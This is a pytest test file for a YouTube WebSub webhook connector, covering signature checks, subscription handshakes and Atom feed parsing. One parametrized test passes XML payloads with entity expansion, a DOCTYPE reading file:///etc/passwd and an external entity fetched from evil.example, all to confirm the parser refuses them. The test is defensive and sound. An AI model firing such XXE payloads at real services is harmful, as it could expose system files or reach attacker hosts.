"""YouTube: what its hub sends, and how one subscribes to it."""

from __future__ import annotations

import json
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.sdk.inbound import Answer, Delivery
from connectors.youtube.webhooks import INBOUND
from core.errors import BadReply, SignatureRefused
from tests.connectors.replies import NOW
from tests.connectors.youtube_parts import OWN
from tests.shared import needs_shared, recorded

FEED = "https://www.youtube.com/xml/feeds/videos.xml?channel_id="
ATOM = (
    '<feed xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns:at="http://purl.org/atompub/tombstones/1.0" '
    'xmlns="http://www.w3.org/2005/Atom">{}</feed>'
)
ENTRY = (
    "<entry><id>yt:video:VIDEO</id><yt:videoId>VIDEO</yt:videoId><yt:channelId>UC1</yt:channelId>"
    "<title>Größe &amp; mehr</title><published>2026-11-20T10:00:00+00:00</published><updated>{}</updated></entry>"
)


def called(body: str | bytes = b"", **headers: str) -> Delivery:
    content = body.encode() if isinstance(body, str) else body
    return Delivery(method="POST", url="https://hooks.example.com/in/tube", headers=headers, body=content)


def asked(**params: str) -> Delivery:
    """The hub asks; names of parameters have a dot for each underscore after `hub`."""
    told = {name.replace("hub_", "hub.", 1): value for name, value in params.items()}
    return Delivery(method="GET", url="https://hooks.example.com/in/tube", params=told)


@needs_shared
def test_the_worked_example_of_a_signature_and_the_same_with_a_byte_changed() -> None:
    vector = recorded("youtube", "webhook_vectors.json")["vectors"]
    good = called(vector["body"], **{vector["header"].lower(): vector["value"]})
    INBOUND.verify(good, {"hub_secret": vector["secret"]}, NOW)
    (event,) = INBOUND.events(good)
    assert (event.key, event.account, event.at) == ({"id": "VIDEO_ID"}, "CHANNEL_ID", None)
    for wrong in (
        replace(good, body=good.body + b" "),
        replace(good, headers={}),
        replace(good, headers={"x-hub-signature": vector["value"][:-1] + "1"}),
        replace(good, headers={"x-hub-signature": "md5=" + vector["value"][5:]}),
        replace(good, headers={"x-hub-signature": "sha1="}),
    ):
        with pytest.raises(SignatureRefused) as refused:
            INBOUND.verify(wrong, {"hub_secret": vector["secret"]}, NOW)
        assert vector["secret"] not in str(refused.value)


def test_a_call_that_is_not_theirs_hears_nothing_else_than_a_good_one() -> None:
    assert INBOUND.refuse == INBOUND.acknowledge == Answer(status=200)


@pytest.mark.parametrize("path", ["xml/feeds", "feeds"])
def test_the_hub_hears_its_challenge_for_a_feed_that_is_ours(path: str) -> None:
    topic = f"https://www.youtube.com/{path}/videos.xml?channel_id={OWN}"
    question = asked(hub_mode="subscribe", hub_topic=topic, hub_challenge="c-1", hub_lease_seconds="432000")
    for values in ({"hub_secret": "s"}, {"hub_secret": "s", "channel_id": OWN}):
        assert INBOUND.handshake(question, values) == Answer(body=b"c-1")


@pytest.mark.parametrize(
    "params",
    [
        {"hub_mode": "subscribe", "hub_topic": FEED + "UCother", "hub_challenge": "c"},
        {"hub_mode": "subscribe", "hub_topic": FEED, "hub_challenge": "c"},
        {
            "hub_mode": "subscribe",
            "hub_topic": f"https://evil.example/feeds/videos.xml?channel_id={OWN}",
            "hub_challenge": "c",
        },
        {"hub_mode": "subscribe", "hub_topic": FEED + OWN},
        {"hub_mode": "publish", "hub_topic": FEED + OWN, "hub_challenge": "c"},
        {"hub_mode": "subscribe", "hub_challenge": "c"},
    ],
)
def test_a_subscription_that_nobody_here_asked_for_is_not_confirmed(params: dict[str, str]) -> None:
    with pytest.raises(SignatureRefused):
        INBOUND.handshake(asked(**params), {"hub_secret": "s", "channel_id": OWN})


def test_a_delivery_is_no_handshake_and_a_refusal_of_the_hub_is_just_heard() -> None:
    assert INBOUND.handshake(called(ATOM.format("")), {"hub_secret": "s"}) is None
    assert INBOUND.handshake(asked(hub_mode="denied", hub_topic=FEED + OWN), {"hub_secret": "s"}) == Answer()


def test_a_video_that_is_told_again_is_the_same_event_and_one_that_changed_another() -> None:
    first, again, changed = (
        INBOUND.events(called(ATOM.format(ENTRY.format(f"2026-11-20T10:00:{second}.123456789+00:00"))))[0]
        for second in ("00", "00", "59")
    )
    assert first == again
    assert first.id != changed.id
    assert first.at == datetime(2026, 11, 20, 10, 0, 0, 123456, tzinfo=UTC)
    assert json.loads(first.data)["title"] == "Größe & mehr"


def test_a_deleted_video_is_told_by_its_tombstone() -> None:
    gone = (
        '<at:deleted-entry ref="yt:video:VIDEO" when="2026-11-21T10:00:00+00:00"><at:by><name>x</name>'
        "<uri>https://www.youtube.com/channel/UC1</uri></at:by></at:deleted-entry>"
    )
    (event,) = INBOUND.events(called(ATOM.format(gone)))
    assert (event.key, event.deleted, event.account) == ({"id": "VIDEO"}, True, "UC1")
    assert event.at == datetime(2026, 11, 21, 10, tzinfo=UTC)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "no feed",
        "<feed",
        b"\xff\xfe",
        '<!DOCTYPE feed [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><feed xmlns="http://www.w3.org/2005/Atom">&b;</feed>',
        '<!doctype feed SYSTEM "file:///etc/passwd"><feed xmlns="http://www.w3.org/2005/Atom"/>',
        '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><feed/>',
    ],
)
def test_what_is_no_feed_or_declares_entities_is_refused(body: str | bytes) -> None:
    with pytest.raises(BadReply):
        INBOUND.events(called(body))


@given(
    st.binary()
    | st.text().map(str.encode)
    | st.from_regex(r"(?s)<feed[^<]*>(<entry>.{0,40}</entry>)?</feed>").map(str.encode)
)
def test_whatever_a_body_holds_it_is_read_or_refused(body: bytes) -> None:
    with suppress(BadReply):
        INBOUND.events(called(body))


def test_a_feed_without_videos_tells_nothing() -> None:
    assert INBOUND.events(called(ATOM.format("<entry><title>x</title></entry>"))) == []
